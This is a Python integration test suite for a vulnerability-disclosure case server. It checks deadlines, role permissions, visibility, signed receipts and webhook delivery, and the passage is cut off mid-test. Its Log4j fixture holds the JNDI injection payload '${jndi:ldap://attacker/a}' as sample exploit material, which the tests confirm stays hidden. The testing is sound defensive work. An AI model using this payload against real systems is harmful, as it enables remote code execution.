"""Integration tests for vulnerability cases against the real `vigil serve`:
intake and the deadline clock (the Log4j timeline), every transition allowed
and refused per role, the visibility matrix, the publication gate, duplicate
links, signed receipts (offline verification, tampering), and the outbox:
signed webhooks to peers and the vendor, retries, and kill -9 after commit
with delivery after restart, de-duplicable by idempotency key."""
import concurrent.futures
import datetime
import hashlib
import hmac
import json
import os
import re
import time
import unittest

import harness
from harness import Receiver, Server, run

SECRET = "peer-secret-0123456789"


def ts(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


def now_minus(hours):
    return datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(hours=hours)


def log4j(**over):
    body = {
        "title": "Remote code execution in Apache Log4j2 JNDI lookups",
        "library": "general",
        "reporter_role": "finder",
        "product": {"vendor": "Apache Software Foundation", "name": "Log4j2",
                    "model": "log4j-core", "versions": "2.0-beta9 through 2.14.1"},
        "technical_characteristics": "Message lookup substitution resolves ${jndi:ldap://...}",
        "harm": "Unauthenticated remote code execution",
        "scope": "Any Java application logging attacker-controlled strings",
        "discovered_at": "2021-11-24T00:00:00Z",
        "affected": [{"purl": "pkg:maven/org.apache.logging.log4j/log4j-core",
                      "ranges": [{"type": "ECOSYSTEM",
                                  "events": [{"introduced": "2.0-beta9"}, {"fixed": "2.15.0"}]}]}],
        "cvss": ["CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"],
        "aliases": ["CVE-2021-44228"],
        "tlp": "amber",
        "exploit_material": "${jndi:ldap://attacker/a}",
        "references": [{"type": "ADVISORY", "url": "https://logging.apache.org/log4j/2.x/security.html"},
                       {"type": "EXPLOIT", "url": "https://example.test/poc"}],
    }
    body.update(over)
    return body


def verify_sig(req, secret):
    want = "sha256=" + hmac.new(secret.encode(), req["body"], hashlib.sha256).hexdigest()
    return req["headers"].get("X-Vigil-Signature") == want


class Cases(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.rx = Receiver()
        cls.s = Server(extra=["--webhook-backoff-ms", "200"])
        s, a = cls.s, cls.s.admin
        cls.org, cls.tok = {}, {"admin": a}

        def unit(key, name, kind, role):
            o = s.post("/api/v1/orgs", {"name": name, "kind": kind}, a).json
            u = s.post("/api/v1/users", {"org_id": o["id"], "name": key + "@t", "role": role}, a).json
            cls.org[key] = o["id"]
            cls.tok[key] = s.post("/api/v1/tokens", {"user_id": u["id"]}, a).json["token"]

        op = s.get("/api/v1/me", a).json["org_id"]
        u = s.post("/api/v1/users", {"org_id": op, "name": "analyst@t", "role": "analyst"}, a).json
        cls.tok["analyst"] = s.post("/api/v1/tokens", {"user_id": u["id"]}, a).json["token"]
        unit("finder", "Finder Labs", "member", "member")
        unit("other", "Other Member", "member", "member")
        unit("vendor", "Apache Software Foundation", "vendor", "vendor")
        unit("othervendor", "Other Vendor", "vendor", "vendor")
        unit("industry", "Power Grid", "industry", "member")
        unit("peer1", "Peer Centre One", "peer", "member")
        unit("peer2", "Peer Centre Two", "peer", "member")
        for who in ("peer1", "peer2", "vendor", "finder"):
            r = s.post("/api/v1/subscriptions", {"channel": "webhook",
                                                 "url": cls.rx.url + "/" + who,
                                                 "secret": SECRET + who}, cls.tok[who])
            assert r.status == 201, r

    @classmethod
    def tearDownClass(cls):
        cls.s.close()
        cls.rx.close()

    def submit(self, who="finder", **over):
        r = self.s.post("/api/v1/cases", log4j(**over), self.tok[who])
        self.assertEqual(r.status, 201, r)
        return r.json

    def move(self, cid, to, who="analyst", **extra):
        body = {"to": to}
        body.update(extra)
        return self.s.post("/api/v1/cases/%s/transition" % cid, body, self.tok[who])

    # ---- intake and the deadline clock ----

    def test_log4j_timeline_late_by_13_days(self):
        c = self.submit("analyst", received_at="2021-12-09T00:00:00Z", reporter_role="collector")
        self.assertRegex(c["id"], r"^VG-2021-\d{5}$")
        self.assertEqual(c["state"], "received")
        self.assertEqual(c["report_due"], "2021-11-26T00:00:00Z")
        self.assertTrue(c["late"])
        self.assertEqual(c["late_by"], "P13D")
        self.assertEqual(c["late_by_seconds"], 13 * 86400)
        self.assertEqual(c["severity"]["score"], 10.0)
        self.assertEqual(c["severity"]["national_grade"], "critical")
        late = self.s.get("/api/v1/cases?overdue=true&limit=1000", self.tok["analyst"]).json
        self.assertIn(c["id"], [x["id"] for x in late["items"]])
        self.assertTrue(all(x["late"] for x in late["items"]))

    def test_created_body_is_the_stored_case(self):
        # the 201 body is written as text; it reads exactly like GET of the stored case
        r = self.s.post("/api/v1/cases", log4j(
            title='Quote " backslash \\ tab \t nl \n ctl \u0001 \u001f del \u007f ü 漏洞 \U0001F600 /',
            aliases=["CVE-2042-0001"], discovered_at=ts(now_minus(100)),
            upstream={"vendor": "Up \"stream\"", "notified_at": "2021-11-24T10:00:00+08:00"},
            references=[{"type": "WEB", "url": "https://example.org/a?b=1&c=<2>"}]),
            self.tok["finder"])
        self.assertEqual(r.status, 201, r)
        self.assertTrue(r.json["late"])
        g = self.s.get("/api/v1/cases/" + r.json["id"], self.tok["finder"])
        self.assertEqual(g.status, 200)
        self.assertEqual(r.raw, g.raw)
        self.assertIn("application/json", r.headers.get("Content-Type", ""))
        on_time = self.submit(aliases=["CVE-2042-0002"], discovered_at=ts(now_minus(1)))
        g = self.s.get("/api/v1/cases/" + on_time["id"], self.tok["finder"])
        self.assertEqual(on_time, g.json)
        self.assertEqual((on_time["late"], on_time["late_by"]), (False, None))

    def test_deadline_edges(self):
        s = self.s
        on_time = now_minus(47.9)
        c = self.submit(discovered_at=ts(on_time), aliases=[])
        self.assertFalse(c["late"])
        self.assertIsNone(c["late_by"])
        c = self.submit(discovered_at=ts(now_minus(49)), aliases=[])
        self.assertTrue(c["late"])
        self.assertGreaterEqual(c["late_by_seconds"], 3600 - 5)
        # offsets in the input are honoured: +08:00 08:00 is 00:00Z
        c = self.submit("analyst", discovered_at="2021-11-24T08:00:00+08:00",
                        received_at="2021-11-26T00:00:00Z", aliases=[])
        self.assertEqual(c["discovered_at"], "2021-11-24T00:00:00Z")
        self.assertEqual(c["report_due"], "2021-11-26T00:00:00Z")
        self.assertFalse(c["late"])  # exactly 48 h is on time
        c = self.submit("analyst", discovered_at="2021-11-24T00:00:00Z",
                        received_at="2021-11-26T00:00:01Z", aliases=[])
        self.assertTrue(c["late"])
        self.assertEqual(c["late_by"], "PT1S")
        future = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=1))
        r = s.post("/api/v1/cases", log4j(discovered_at=ts(future)), self.tok["finder"])
        self.assertEqual((r.status, r.field), (400, "discovered_at"))
        r = s.post("/api/v1/cases", log4j(received_at="2021-12-09T00:00:00Z"), self.tok["finder"])
        self.assertEqual((r.status, r.field), (403, "received_at"))

    def test_intake_validation(self):
        s, t = self.s, self.tok["finder"]
        n0 = len(s.get("/api/v1/cases?limit=1000", self.tok["analyst"]).json["items"])
        for field in ("title", "reporter_role", "technical_characteristics", "harm", "scope",
                      "discovered_at", "product"):
            b = log4j()
            del b[field]
            r = s.post("/api/v1/cases", b, t)
            self.assertEqual((r.status, r.code, r.field), (400, "missing_field", field), field)
        for sub in ("vendor", "name", "model", "versions"):
            b = log4j()
            del b["product"][sub]
            r = s.post("/api/v1/cases", b, t)
            self.assertEqual((r.status, r.field), (400, "product." + sub))
        bad = [
            ({"library": "space"}, "library"),
            ({"tlp": "purple"}, "tlp"),
            ({"cvss": ["CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H"]}, "cvss[0]"),
            ({"affected": [{"purl": "not a purl", "ranges": []}]}, "affected[0].purl"),
            ({"affected": [{"purl": "pkg:maven/a/b@1.0", "versions": ["1.0"]}]}, "affected[0].purl"),
            ({"affected": [{"purl": "pkg:maven/a/b"}]}, "affected[0].ranges"),
            ({"affected": [{"purl": "pkg:npm/x", "ranges": [{"type": "SEMVER",
                                                             "events": [{"introduced": "zz"}]}]}]},
             None),
            ({"references": [{"type": "BLOG", "url": "x"}]}, "references[0].type"),
            ({"colour": "red"}, "colour"),
            ({"reporter_role": "provider"}, "reporter_role"),
        ]
        for over, field in bad:
            r = s.post("/api/v1/cases", log4j(**over), t)
            self.assertEqual(r.status, 400, (over, r))
            if field:
                self.assertEqual(r.field, field, (over, r))
            else:
                self.assertTrue(r.field.startswith("affected[0]"), r)
        r = s.post("/api/v1/cases", log4j(), self.tok["admin"].replace("vg_", "vg_x"))
        self.assertEqual(r.status, 401)
        self.assertEqual(len(s.get("/api/v1/cases?limit=1000", self.tok["analyst"]).json["items"]), n0)

    def test_ids_gap_free_under_concurrency(self):
        def one(i):
            return self.s.post("/api/v1/cases", log4j(aliases=["CVE-2031-%04d" % i],
                                                       discovered_at=ts(now_minus(1))),
                               self.tok["finder"])
        def bad(i):  # rejected before the write: the writer must not wait for them
            return self.s.post("/api/v1/cases", log4j(aliases=["CVE-2032-%04d" % i],
                                                       discovered_at="yesterday"),
                               self.tok["finder"])
        with concurrent.futures.ThreadPoolExecutor(8) as ex:
            fs = [ex.submit(one if i % 3 else bad, i) for i in range(36)]
            all_rs = [f.result() for f in fs]
        rs = [r for i, r in enumerate(all_rs) if i % 3]
        self.assertTrue(all(r.status == 201 for r in rs))
        self.assertTrue(all(r.status == 400 and r.field == "discovered_at"
                            for i, r in enumerate(all_rs) if i % 3 == 0))
        year = datetime.datetime.now(datetime.timezone.utc).year
        ids = [r.json["id"] for r in rs]
        self.assertEqual(len(set(ids)), 24)
        self.assertEqual(len(rs), 24)
        every = [x["id"] for x in self.s.get("/api/v1/cases?limit=1000", self.tok["analyst"]).json["items"]
                 if x["id"].startswith("VG-%d-" % year)]
        nums = sorted(int(i.rsplit("-", 1)[1]) for i in every)
        self.assertEqual(nums, list(range(1, len(nums) + 1)))

    # ---- lifecycle ----

    def test_full_lifecycle_roles_and_notifications(self):
        s = self.s
        c = self.submit(discovered_at=ts(now_minus(2)), aliases=["CVE-2041-0001"])
        cid = c["id"]
        # peers hear of it at once, signed, with an idempotency key
        for p in ("peer1", "peer2"):
            got = self.rx.wait_for(lambda r, p=p: r["path"] == "/" + p and cid.encode() in r["body"])
            self.assertTrue(got, "peer %s not notified" % p)
            self.assertTrue(verify_sig(got[0], SECRET + p))
            self.assertTrue(got[0]["headers"].get("X-Vigil-Idempotency-Key"))
            msg = json.loads(got[0]["body"])
            self.assertEqual((msg["topic"], msg["object_id"]), ("case.received", cid))
            self.assertNotIn("exploit_material", json.dumps(msg))
            # one inbox entry serves every peer centre: each reads it as its
            # own, and its webhook message is that entry's, with its id
            self.assertEqual(msg["org_id"], self.org[p])
            inbox = s.get("/api/v1/notifications", self.tok[p]).json["items"]
            mine = [n for n in inbox if n["object_id"] == cid]
            self.assertEqual(len(mine), 1)
            self.assertEqual(msg["notification_id"], mine[0]["id"])
            self.assertEqual({k: x for k, x in msg.items() if k != "notification_id"},
                             mine[0]["message"])
        # other units' inboxes do not have it
        for who in ("vendor", "finder"):
            inbox = s.get("/api/v1/notifications", self.tok[who]).json["items"]
            self.assertNotIn(cid, [n["object_id"] for n in inbox if n["topic"] == "case.received"])
        # refused moves: wrong role -> 403, not in the lifecycle -> 409
        self.assertEqual(self.move(cid, "triaging", "finder").status, 403)
        self.assertEqual(self.move(cid, "published").code, "invalid_transition")
        self.assertEqual(self.move(cid, "fix_available").status, 409)
        self.assertEqual(self.move(cid, "vendor_notified").status, 409)
        self.assertEqual(self.move(cid, "nonsense").field, "to")
        self.assertEqual(self.move(cid, "triaging", "vendor").status, 404)  # cannot see it yet
        self.assertEqual(self.move(cid, "triaging").status, 200)
        self.assertEqual(self.move(cid, "confirmed", note="reproduced").status, 200)
        # the vendor unit was matched by name
        self.assertEqual(s.get("/api/v1/cases/" + cid, self.tok["analyst"]).json["vendor_org_id"],
                         self.org["vendor"])
        self.assertEqual(s.get("/api/v1/cases/" + cid, self.tok["vendor"]).status, 404)
        r = self.move(cid, "vendor_notified", vendor_org_id=self.org["industry"])
        self.assertEqual((r.status, r.field), (400, "vendor_org_id"))
        r = self.move(cid, "vendor_notified")
        self.assertEqual(r.status, 200, r)
        got = self.rx.wait_for(lambda r: r["path"] == "/vendor" and cid.encode() in r["body"])
        self.assertTrue(got and verify_sig(got[0], SECRET + "vendor"))
        self.assertEqual(json.loads(got[0]["body"])["topic"], "case.vendor_notified")
        v = s.get("/api/v1/cases/" + cid, self.tok["vendor"])
        self.assertEqual(v.status, 200)
        self.assertEqual(s.get("/api/v1/cases/" + cid, self.tok["othervendor"]).status, 404)
        # fix: the vendor records it; publication is staff's
        r = self.move(cid, "fix_available", "vendor")
        self.assertEqual((r.status, r.field), (400, "fix"))
        r = self.move(cid, "fix_available", "vendor",
                      fix={"fixed_versions": ["2.15.0"], "remediation": "Upgrade to 2.15.0"})
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json["fix"]["fixed_versions"], ["2.15.0"])
        self.assertEqual(self.move(cid, "published", "vendor").status, 403)
        self.assertEqual(s.get("/api/v1/cases/" + cid).status, 404)  # not public yet
        r = self.move(cid, "published", note="advisory out")
        self.assertEqual(r.status, 200, r)
        self.assertEqual(self.move(cid, "triaging").status, 409)
        # public view: no token needed, no exploit material, no reporter
        pub = s.get("/api/v1/cases/" + cid)
        self.assertEqual(pub.status, 200)
        self.assertNotIn("exploit_material", pub.json)
        self.assertNotIn("reporter", pub.json)
        self.assertNotIn("EXPLOIT", json.dumps(pub.json["references"]))
        self.assertEqual(pub.json["fix"]["remediation"], "Upgrade to 2.15.0")
        self.assertIn(cid, [x["id"] for x in s.get("/api/v1/cases?state=published").json["items"]])
        self.assertEqual(s.get("/api/v1/cases/" + cid, self.tok["industry"]).status, 200)
        # the reporter heard of each move
        got = self.rx.wait_for(lambda r: r["path"] == "/finder" and b'"published"' in r["body"]
                               and cid.encode() in r["body"])
        self.assertTrue(got)
        # timeline: who, when, why for every move
        tl = s.get("/api/v1/cases/%s/timeline" % cid, self.tok["finder"]).json["items"]
        moves = [(e["from"], e["to"]) for e in tl if e["kind"] == "transition"]
        self.assertEqual(moves, [(None, "received"), ("received", "triaging"),
                                 ("triaging", "confirmed"), ("confirmed", "vendor_notified"),
                                 ("vendor_notified", "fix_available"),
                                 ("fix_available", "published")])
        confirmed = [e for e in tl if e["to"] == "confirmed"]
        self.assertEqual(confirmed[0]["note"], "reproduced")
        self.assertTrue(all(e["at"] and e["actor_user"] for e in tl))
        # deliveries are logged with their delay since the event
        dl = s.get("/api/v1/cases/%s/deliveries" % cid, self.tok["analyst"]).json["items"]
        self.assertTrue(dl)
        self.assertTrue(all(d["status"] == 200 for d in dl))
        self.assertTrue(all(d["delay_ms"] >= 0 for d in dl))
        self.assertEqual(s.get("/api/v1/cases/%s/deliveries" % cid, self.tok["finder"]).status, 403)
        audit = [e for e in s.get("/api/v1/audit?limit=1000", self.tok["analyst"]).json["items"]
                 if e["object_id"] == cid]
        self.assertEqual([e["action"] for e in audit], ["case.create"] + ["case.transition"] * 5)

    def test_publication_gate_and_terminal_states(self):
        c = self.submit(aliases=["CVE-2041-0002"])["id"]
        self.move(c, "triaging")
        self.move(c, "confirmed")
        r = self.move(c, "published")
        self.assertEqual(r.code, "invalid_transition")
        r = self.move(c, "published", early_publication={"assessment": "exploited in the wild",
                                                         "approved_by": "CNCERT duty officer"})
        self.assertEqual((r.status, r.field), (400, "remediation"))
        r = self.move(c, "published", remediation="Set log4j2.formatMsgNoLookups=true",
                      early_publication={"assessment": "exploited in the wild",
                                         "approved_by": "CNCERT duty officer"})
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json["early_publication"]["approved_by"], "CNCERT duty officer")
        self.assertEqual(self.s.get("/api/v1/cases/" + c).json["fix"]["remediation"],
                         "Set log4j2.formatMsgNoLookups=true")
        d = self.submit(aliases=["CVE-2041-0003"])["id"]
        self.assertEqual(self.move(d, "rejected").field, "note")
        self.assertEqual(self.move(d, "rejected", note="not a vulnerability").status, 200)
        self.assertEqual(self.move(d, "triaging").status, 409)
        e = self.submit(aliases=["CVE-2041-0004"])["id"]
        self.assertEqual(self.move(e, "duplicate", duplicate_of="VG-1999-00001").field, "duplicate_of")
        r = self.move(e, "duplicate", duplicate_of=c)
        self.assertEqual((r.status, r.json["duplicate_of"]), (200, c))

    def test_duplicates_keep_first_reporter_credit(self):
        first = self.submit(aliases=["CVE-2051-0001"], discovered_at=ts(now_minus(3)))
        time.sleep(0.01)
        second = self.submit("other", aliases=["cve-2051-0001"], discovered_at=ts(now_minus(2)))
        dups = second["possible_duplicates"]
        # an alias match wins over an earlier case that only shares the package
        self.assertEqual([d["id"] for d in dups], [first["id"]])
        self.assertEqual((dups[0]["matched_on"], dups[0]["key"]), ("alias", "CVE-2051-0001"))
        self.assertEqual(dups[0]["received_at"], first["received_at"])
        self.assertLess(first["received_at"], second["received_at"])
        tl = self.s.get("/api/v1/cases/%s/timeline" % first["id"], self.tok["analyst"]).json["items"]
        self.assertIn("duplicate_link", [e["kind"] for e in tl])

    def test_duplicates_link_the_first_open_case_only(self):
        pkg = {"purl": "pkg:maven/org.example.dedup/widget",
               "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "1.0"}, {"fixed": "1.2"}]}]}
        product = {"vendor": "Dedup Vendor", "name": "Widget", "model": "W1", "versions": "1.0-1.1"}
        first = self.submit(aliases=[], affected=[pkg], product=product)
        later = [self.submit("other", aliases=[], affected=[pkg], product=product) for _ in range(4)]
        for c in later:
            self.assertEqual(c["possible_duplicates"],
                             [{"id": first["id"], "received_at": first["received_at"],
                               "matched_on": "product",
                               "key": "dedup vendor|widget|pkg:maven/org.example.dedup/widget"}])
            tl = self.s.get("/api/v1/cases/%s/timeline" % c["id"], self.tok["analyst"]).json["items"]
            self.assertEqual([e["kind"] for e in tl], ["transition", "duplicate_link"])
        tl = self.s.get("/api/v1/cases/%s/timeline" % first["id"], self.tok["analyst"]).json["items"]
        self.assertEqual(sorted(e["note"] for e in tl if e["kind"] == "duplicate_link"),
                         sorted("%s may report the same flaw (reported later)" % c["id"]
                                for c in later))
        # once the first is closed, the next open one keeps the credit
        self.assertEqual(self.move(first["id"], "rejected", note="not a flaw").status, 200)
        nxt = self.submit(aliases=[], affected=[pkg], product=product)
        self.assertEqual([d["id"] for d in nxt["possible_duplicates"]], [later[0]["id"]])

    def test_visibility_matrix(self):
        s = self.s
        c = self.submit(aliases=["CVE-2061-0001"], tlp="red")["id"]
        see = {"admin": 200, "analyst": 200, "finder": 200, "other": 404, "vendor": 404,
               "industry": 404, "peer1": 404}
        for who, want in see.items():
            self.assertEqual(s.get("/api/v1/cases/" + c, self.tok[who]).status, want, who)
        self.assertEqual(s.get("/api/v1/cases/" + c).status, 404)
        self.move(c, "triaging")
        self.move(c, "confirmed")
        self.assertEqual(self.move(c, "vendor_notified").status, 200)
        # TLP:RED stays with the reporter and the operator, even for the vendor
        self.assertEqual(s.get("/api/v1/cases/" + c, self.tok["vendor"]).status, 404)
        listed = [x["id"] for x in s.get("/api/v1/cases?limit=1000", self.tok["other"]).json["items"]]
        self.assertNotIn(c, listed)
        mine = [x["id"] for x in s.get("/api/v1/cases?limit=1000", self.tok["finder"]).json["items"]]
        self.assertIn(c, mine)
        # comments: reporter yes, outsiders cannot even see the case
        r = s.post("/api/v1/cases/%s/comments" % c, {"body": "more detail", "kind": "information"},
                   self.tok["finder"])
        self.assertEqual(r.status, 201, r)
        self.assertEqual(s.post("/api/v1/cases/%s/comments" % c, {"body": "x"},
                                self.tok["other"]).status, 404)
        # a suspended reporter unit sees nothing non-public
        org = self.org["other"]
        mine = self.submit("other", aliases=["CVE-2061-0002"])["id"]
        until = ts(datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(hours=1))
        self.assertEqual(s.post("/api/v1/orgs/%d/suspend" % org, {"until": until, "reason": "t"},
                                self.tok["analyst"]).status, 200)
        r = s.get("/api/v1/cases/" + mine, self.tok["other"])
        self.assertEqual((r.status, r.code), (403, "unit_suspended"))
        self.assertEqual(s.post("/api/v1/cases", log4j(), self.tok["other"]).code, "unit_suspended")
        only_public = s.get("/api/v1/cases?limit=1000", self.tok["other"]).json["items"]
        self.assertTrue(all(x["state"] == "published" for x in only_public))
        s.post("/api/v1/orgs/%d/reinstate" % org, {"reason": "ok"}, self.tok["analyst"])
        self.assertEqual(s.get("/api/v1/cases/" + mine, self.tok["other"]).status, 200)

    # ---- receipts ----

    def test_receipt_verifies_offline_and_detects_tampering(self):
        raw = json.dumps(log4j(aliases=["CVE-2071-0001"])).encode()
        r = self.s.post("/api/v1/cases", raw=raw, token=self.tok["finder"])
        self.assertEqual(r.status, 201)
        rc = r.json["receipt"]
        self.assertEqual(rc["sha256"], hashlib.sha256(raw).hexdigest())
        self.assertEqual(rc["case_id"], r.json["id"])
        path = os.path.join(self.s.dir.name, "receipt.json")
        with open(path, "w") as f:
            json.dump(r.json, f)
        p = run("receipt", "verify", path, "--data", self.s.data)
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)
        self.assertTrue(p.stdout.startswith("ok receipt for " + rc["case_id"]))
        keys = self.s.get("/api/v1/keys").json["keys"]
        self.assertEqual(keys[0]["id"], rc["key_id"])
        p = run("receipt", "verify", path, "--key", keys[0]["public_key"])
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)
        for field, value in (("received_at", "2021-01-01T00:00:00Z"), ("case_id", "VG-2021-99999"),
                             ("sha256", "0" * 64)):
            bad = dict(rc)
            bad[field] = value
            with open(path, "w") as f:
                json.dump(bad, f)
            p = run("receipt", "verify", path, "--data", self.s.data)
            self.assertEqual(p.returncode, 1, field)
            self.assertIn("invalid", p.stdout)

    def test_receipts_signed_ahead_under_concurrency(self):
        """Owners sign their receipts while the writer works on the cases ahead,
        for the number each case is foreseen to get; a case backfilled into
        another year is not foreseen. Every receipt verifies, names its case
        and is the stored one, and numbers stay gap-free per year."""
        staff_year = datetime.datetime.now(datetime.timezone.utc).year - 1
        def one(i):
            over = {"aliases": ["CVE-2072-%04d" % i], "discovered_at": ts(now_minus(1))}
            who = "finder"
            if i % 7 == 3:
                over = {"aliases": ["CVE-2073-%04d" % i],
                        "discovered_at": "%d-06-01T00:00:00Z" % staff_year,
                        "received_at": "%d-06-02T00:00:%02dZ" % (staff_year, i % 60)}
                who = "analyst"
            raw = json.dumps(log4j(**over)).encode()
            return raw, self.s.post("/api/v1/cases", raw=raw, token=self.tok[who])
        with concurrent.futures.ThreadPoolExecutor(12) as ex:
            done = list(ex.map(one, range(60)))
        pk = self.s.get("/api/v1/keys").json["keys"][0]["public_key"]
        path = os.path.join(self.s.dir.name, "ahead.json")
        for raw, r in done:
            self.assertEqual(r.status, 201, r)
            rc = r.json["receipt"]
            self.assertEqual(rc["case_id"], r.json["id"])
            self.assertEqual(rc["sha256"], hashlib.sha256(raw).hexdigest())
            self.assertEqual(rc["received_at"], r.json["received_at"])
            self.assertEqual(self.s.get("/api/v1/cases/" + r.json["id"],
                                        self.tok["analyst"]).json["receipt"], rc)
            with open(path, "w") as f:
                json.dump(r.json, f)
            p = run("receipt", "verify", path, "--key", pk)
            self.assertEqual(p.returncode, 0, (r.json["id"], p.stdout + p.stderr))
        every = [x["id"] for x in
                 self.s.get("/api/v1/cases?limit=1000", self.tok["analyst"]).json["items"]]
        for year in (staff_year, staff_year + 1):
            nums = sorted(int(i.rsplit("-", 1)[1]) for i in every if i.startswith("VG-%d-" % year))
            self.assertEqual(nums, list(range(1, len(nums) + 1)), year)

    # ---- compliance ----

    def test_compliance_figures(self):
        self.submit(aliases=[], discovered_at=ts(now_minus(1)))
        self.submit(aliases=[], discovered_at=ts(now_minus(72)), library="ics")
        st = self.s.get("/api/v1/stats/compliance", self.tok["analyst"]).json
        self.assertEqual(st["deadline"], "2 calendar_days")
        units = {u["org_id"]: u for u in st["units"]}
        f = units[self.org["finder"]]
        self.assertGreater(f["reports"], 0)
        self.assertIn("general", f["libraries"])
        self.assertGreaterEqual(f["libraries"]["ics"]["late_reports"], 1)
        self.assertGreaterEqual(f["late_reports"], 1)
        self.assertGreaterEqual(f["worst_delay_seconds"], f["median_delay_seconds"])
        mine = self.s.get("/api/v1/stats/compliance", self.tok["finder"]).json["units"]
        self.assertEqual([u["org_id"] for u in mine], [self.org["finder"]])


TABLE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fuzz", "corpus", "cvss-gbt",
                     "test_table")
GBT = {"access_path": "network", "trigger": "low", "privileges": "none", "interaction": "none",
       "confidentiality": "high", "integrity": "high", "availability": "high",
       "exploit_cost": "low", "fix_difficulty": "low", "scope": "wide"}


class GbtGrading(unittest.TestCase):
    """GB/T 30279 grading with an operator-supplied table (a test table, not the official one)."""

    def test_case_graded_with_the_table(self):
        s = Server(extra=["--gbt-table", TABLE])
        try:
            r = s.post("/api/v1/cases", log4j(gbt=GBT, cvss=[]), s.admin)
            self.assertEqual(r.status, 201, r)
            g = r.json["gbt"]
            self.assertEqual((g["grade"], g["table_version"]), ("critical", "test-2026.1"))
            self.assertEqual(g["inputs"], GBT)
            self.assertEqual(r.json["severity"]["national_grade"], "critical")
            low = dict(GBT, confidentiality="none", integrity="none", availability="low",
                       access_path="local")
            r = s.post("/api/v1/cases", log4j(gbt=low, cvss=[]), s.admin)
            self.assertEqual(r.json["gbt"]["grade"], "low")
            bad = dict(GBT)
            del bad["scope"]
            r = s.post("/api/v1/cases", log4j(gbt=bad), s.admin)
            self.assertEqual((r.status, r.field), (400, "gbt.scope"))
            r = s.post("/api/v1/cases", log4j(gbt=dict(GBT, trigger="sometimes")), s.admin)
            self.assertEqual((r.status, r.field), (400, "gbt.trigger"))
        finally:
            s.close()
        p = run("grade", "--gbt-table", TABLE, ",".join("%s=%s" % kv for kv in GBT.items()))
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertEqual(json.loads(p.stdout)["grade"], "critical")
        p = run("grade", "--gbt-table", TABLE, "access_path=network")
        self.assertEqual(p.returncode, 2)

    def test_without_a_table(self):
        s = Server()
        try:
            r = s.post("/api/v1/cases", log4j(gbt=GBT), s.admin)
            self.assertEqual((r.status, r.field), (400, "gbt"))
        finally:
            s.close()


class OutboxDurability(unittest.TestCase):
    """A webhook in flight when the server is killed -9 is delivered after the
    restart; the receiver sees the same idempotency key and can de-duplicate."""

    def test_kill9_then_restart_delivers(self):
        rx = Receiver()
        s = Server(extra=["--webhook-backoff-ms", "200", "--webhook-timeout", "2"])
        try:
            a = s.admin
            o = s.post("/api/v1/orgs", {"name": "Peer", "kind": "peer"}, a).json
            u = s.post("/api/v1/users", {"org_id": o["id"], "name": "p@t", "role": "member"}, a).json
            tok = s.post("/api/v1/tokens", {"user_id": u["id"]}, a).json["token"]
            s.post("/api/v1/subscriptions", {"channel": "webhook", "url": rx.url + "/peer",
                                             "secret": SECRET}, tok)
            rx.hold = 1.5  # the first delivery is still in flight when we kill
            c = s.post("/api/v1/cases", log4j(), a).json["id"]
            self.assertTrue(rx.wait_for(lambda r: c.encode() in r["body"]))
            s.kill9()
            rx.hold = 0
            time.sleep(1.6)
            s.start()
            got = rx.wait_for(lambda r: c.encode() in r["body"] and len(
                [x for x in rx.requests if c.encode() in x["body"]]) >= 2, timeout=20)
            self.assertTrue(got, "not redelivered after restart")
            keys = {r["headers"]["X-Vigil-Idempotency-Key"] for r in rx.requests if c.encode() in r["body"]}
            self.assertEqual(len(keys), 1)
            # the same message both times, addressed to this peer (it comes
            # from the one inbox entry all peers share)
            bodies = {r["body"] for r in rx.requests if c.encode() in r["body"]}
            self.assertEqual(len(bodies), 1)
            self.assertEqual(json.loads(bodies.pop())["org_id"], o["id"])
            # the case keys written before the kill are found after it (the
            # writer's key index is read back from the store)
            again = s.post("/api/v1/cases", log4j(), a).json
            self.assertEqual([d["id"] for d in again["possible_duplicates"]], [c])
            deadline = time.time() + 10
            while time.time() < deadline:
                dl = s.get("/api/v1/cases/%s/deliveries" % c, a).json["items"]
                if any(d["status"] == 200 for d in dl):
                    break
                time.sleep(0.1)
            self.assertTrue(any(d["status"] == 200 for d in dl), dl)
        finally:
            s.close()
            rx.close()

    def test_retries_with_backoff(self):
        rx = Receiver()
        s = Server(extra=["--webhook-backoff-ms", "100"])
        try:
            a = s.admin
            o = s.post("/api/v1/orgs", {"name": "Peer", "kind": "peer"}, a).json
            u = s.post("/api/v1/users", {"org_id": o["id"], "name": "p@t", "role": "member"}, a).json
            tok = s.post("/api/v1/tokens", {"user_id": u["id"]}, a).json["token"]
            s.post("/api/v1/subscriptions", {"channel": "webhook", "url": rx.url + "/peer",
                                             "secret": SECRET}, tok)
            rx.script = [500, 503]
            c = s.post("/api/v1/cases", log4j(), a).json["id"]
            deadline = time.time() + 15
            dl = []
            while time.time() < deadline:
                dl = s.get("/api/v1/cases/%s/deliveries" % c, a).json["items"]
                if any(d["status"] == 200 for d in dl):
                    break
                time.sleep(0.1)
            self.assertEqual([d["status"] for d in dl], [500, 503, 200])
            gaps = [dl[i + 1]["delay_ms"] - dl[i]["delay_ms"] for i in range(2)]
            self.assertGreaterEqual(gaps[0], 90)
            self.assertGreaterEqual(gaps[1], 190)  # doubled
            bodies = {r["body"] for r in rx.requests}
            self.assertEqual(len(bodies), 1)  # the same message each time
            m = s.get("/metrics").raw
            self.assertIn("vigil_outbox_pending 0", m)
        finally:
            s.close()
            rx.close()


class PeerFilters(unittest.TestCase):
    """A peer centre's webhook with a library filter is sent the cases of
    that library only; the inbox entry is every peer's either way."""

    def test_library_filter_on_forwarding(self):
        rx = Receiver()
        s = Server()
        try:
            a = s.admin
            toks = {}
            for name, flt in (("ics", {"libraries": ["ics"]}), ("all", None)):
                o = s.post("/api/v1/orgs", {"name": "Peer " + name, "kind": "peer"}, a).json
                u = s.post("/api/v1/users", {"org_id": o["id"], "name": name + "@p",
                                             "role": "member"}, a).json
